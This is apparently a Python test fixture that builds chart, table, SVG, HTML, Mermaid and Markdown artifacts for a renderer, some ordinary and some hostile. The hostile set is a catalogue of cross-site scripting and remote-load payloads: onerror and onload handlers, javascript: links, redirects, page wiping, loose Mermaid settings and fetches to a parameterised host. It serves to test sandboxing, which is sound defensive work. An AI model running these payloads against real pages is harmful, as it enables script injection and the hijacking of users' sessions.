"""Artifacts as a stranger's code might make them: some ordinary, some that want out.

Every hostile one tries to load something from `host`, to run a script that leaves a mark in the page
(`window.marked`, its title, its storage), or to lead the page away.
"""

from __future__ import annotations

from typing import Any

MARK = "(top||parent).marked=1;document.title='marked';localStorage.marked=1;alert(1)"
HOUSE = [("Electronics", 14.2, 2310), ("Home", 9.8, 1987), ("Garden", None, 640), ("Toys", 6.1, 88)]


def table(number: int = 1, title: str = "Return rate by category") -> dict[str, Any]:
    return {
        "id": f"table-{number}",
        "kind": "table",
        "title": title,
        "columns": [
            {"name": "category", "type": "VARCHAR", "kind": "text", "unit": ""},
            {"name": "rate", "type": "DOUBLE", "kind": "float", "unit": ""},
            {"name": "orders", "type": "BIGINT", "kind": "integer", "unit": ""},
        ],
        "rows": [list(row) for row in HOUSE],
        "row_count": len(HOUSE),
        "truncated": False,
    }


def plotly(number: int = 1, **layout: Any) -> dict[str, Any]:
    bars = {"type": "bar", "x": [row[0] for row in HOUSE], "y": [row[2] for row in HOUSE], "name": "orders"}
    figure = {"data": [bars], "layout": {"title": {"text": "Orders"}, **layout}}
    return {"id": f"plot-{number}", "kind": "plot", "title": "Orders", "format": "plotly", "figure": figure}


def vega(number: int = 1, **spec: Any) -> dict[str, Any]:
    made = {
        "data": {"values": [{"a": row[0], "b": row[2]} for row in HOUSE]},
        "mark": "bar",
        "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}},
        **spec,
    }
    return {
        "id": f"plot-{number}",
        "kind": "plot",
        "title": "Orders, Altair",
        "format": "vega-lite",
        "spec": made,
    }


def svg(number: int, inside: str = "", title: str = "A circle") -> dict[str, Any]:
    drawn = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" '
        f'height="60"><circle cx="60" cy="30" r="24" fill="#1d5fa8"/>{inside}</svg>'
    )
    return {"id": f"plot-{number}", "kind": "plot", "title": title, "format": "svg", "svg": drawn}


def html(number: int, text: str, title: str = "A page") -> dict[str, Any]:
    return {"id": f"html-{number}", "kind": "html", "title": title, "html": text}


def text(kind: str, number: int, words: str, title: str = "") -> dict[str, Any]:
    return {"id": f"{kind}-{number}", "kind": kind, "title": title, "text": words}


def ordinary() -> list[dict[str, Any]]:
    rows = "".join(f"<tr><td>{name}</td><td>{orders}</td></tr>" for name, _, orders in HOUSE)
    return [
        table(),
        plotly(),
        vega(2),
        svg(3),
        html(
            1,
            f"<h3>Orders</h3><table><tr><th>category</th><th>orders</th></tr>{rows}</table>",
            "Orders, as a page",
        ),
        text(
            "mermaid", 1, "flowchart LR\n  A[Orders] --> B{Returned?}\n  B -->|yes| C[Refund]", "How it flows"
        ),
        text(
            "markdown",
            1,
            "**Method.** Returns over orders, see [the docs](https://docs.example/a).",
            "Method",
        ),
    ]


def hostile_page(host: str) -> str:
    return f"""<html><head><meta http-equiv="refresh" content="0;url={host}/refresh"><base href="{host}/">
    <link rel="preconnect" href="{host}"><link rel="stylesheet" href="{host}/sheet.css">
    <link rel="prefetch" href="{host}/prefetch"><style>@import "{host}/import.css";
    body {{ background: url({host}/background) }} @font-face {{ font-family: f; src: url({host}/font) }}
    p {{ font-family: f; cursor: url({host}/cursor), auto }}</style></head>
    <body onload="{MARK}"><script>{MARK}; fetch('{host}/fetch'); new Image().src='{host}/image';
    top.location='{host}/top'; parent.document.body.innerHTML='';</script><script src="{host}/script.js"></script>
    <p>Words of the page</p><img src="{host}/img" onerror="{MARK}"><img srcset="{host}/srcset 1x">
    <iframe src="{host}/frame"></iframe><iframe srcdoc="<script>{MARK}</script>"></iframe>
    <object data="{host}/object"></object><embed src="{host}/embed"><video src="{host}/video" autoplay></video>
    <svg onload="{MARK}"><image href="{host}/svg-image"/><use href="{host}/use#a"/></svg>
    <form action="{host}/form"><button id="send">Send</button></form>
    <a id="away" href="{host}/link" target="_top" ping="{host}/ping">Click here</a>
    <a id="script" href="javascript:{MARK}">And here</a><input autofocus onfocus="{MARK}">
    <div style="background-image: url({host}/style)">styled</div></body></html>"""


def hostile(host: str) -> list[dict[str, Any]]:
    link = f'<a href="{host}/anchor">label</a><img src="{host}/label" onerror="{MARK}">'
    remote = {"source": f"{host}/layout-image", "x": 0, "y": 1, "sizex": 1, "sizey": 1, "xref": "paper"}
    figure = plotly(
        1,
        images=[remote],
        annotations=[{"text": link, "x": 0.5, "y": 0.5, "xref": "paper", "yref": "paper"}],
        template={"layout": {"images": [remote]}},
        updatemenus=[{"buttons": [{"label": "x", "method": "relayout", "args": ["images[0].source", host]}]}],
    )
    figure["figure"]["data"][0] |= {
        "x": [link, "b"],
        "y": [1, 2],
        "text": [f"<span style='cursor:url({host}/s)'>s"],
    }
    figure["figure"]["data"] += [
        {"type": "image", "source": f"{host}/trace-image"},
        {"type": "scattermap", "lat": [1], "lon": [1]},
    ]
    figure["figure"]["config"] = {"plotlyServerURL": host}
    program = (
        f"<script>{MARK}</script><image xlink:href='{host}/in-svg' width='9' height='9'/><a href='{host}/a'/>"
    )
    return [
        table(1, f"<img src={host}/title onerror={MARK}>"),
        figure,
        svg(
            2,
            f'{program}<style>@import url({host}/svg.css);</style><rect onclick="{MARK}" width="9" height="9"/>',
        ),
        vega(3, data={"url": f"{host}/rows.json"}),
        vega(4, mark={"type": "image", "url": f"{host}/mark", "href": f"{host}/href"}),
        vega(5, transform=[{"calculate": "window.document.title='marked'", "as": "b"}]),
        html(1, hostile_page(host), "A hostile page"),
        text(
            "mermaid",
            1,
            f'flowchart LR\n  A["<img src={host}/m onerror={MARK}>"] --> B\n  click A href "{host}/click"',
        ),
        text(
            "mermaid",
            2,
            f'---\nconfig:\n  securityLevel: loose\n---\nflowchart LR\n  A@{{ img: "{host}/shape" }}',
        ),
        text(
            "mermaid",
            3,
            f'%%{{init: {{"securityLevel":"loose","themeCSS":"*{{background:url({host}/t)}}","flowchart":'
            f'{{"htmlLabels":true}}}}}}%%\nflowchart LR\n  A["<iframe src={host}/mf>"] --> B\n'
            f"  style A fill:url({host}/fill)",
        ),
        text("mermaid", 4, "this is no diagram <img src=x>"),
        text(
            "markdown",
            1,
            f"![p]({host}/picture) <img src={host}/raw onerror={MARK}> <script>{MARK}</script>\n\n"
            f"[a](javascript:{MARK}) [b]({host}/elsewhere) [c](data:text/html,x)",
            "Words",
        ),
    ]


def code(artifacts: list[dict[str, Any]]) -> str:
    """Python that shows them."""
    return "\n".join(_shown(artifact) for artifact in artifacts)


def _shown(artifact: dict[str, Any]) -> str:
    title = artifact["title"]
    match artifact:
        case {"kind": "table", "columns": columns, "rows": rows}:
            names = [column["name"] for column in columns]
            return f"show_table(pd.DataFrame({rows!r}, columns={names!r}), {title!r})"
        case {"format": "plotly", "figure": figure}:
            return f"show_plot(go.Figure({figure!r}, skip_invalid=True), {title!r})"
        case {"format": "vega-lite", "spec": spec}:
            return f"show_plot(alt.Chart.from_dict({spec!r}), {title!r})"
        case {"format": "svg", "svg": drawn}:
            return f"show_plot({drawn!r}, {title!r})"
        case {"kind": "html", "html": page}:
            return f"show_html({page!r}, {title!r})"
        case _:
            return f"show_{artifact['kind']}({artifact['text']!r}, {title!r})"
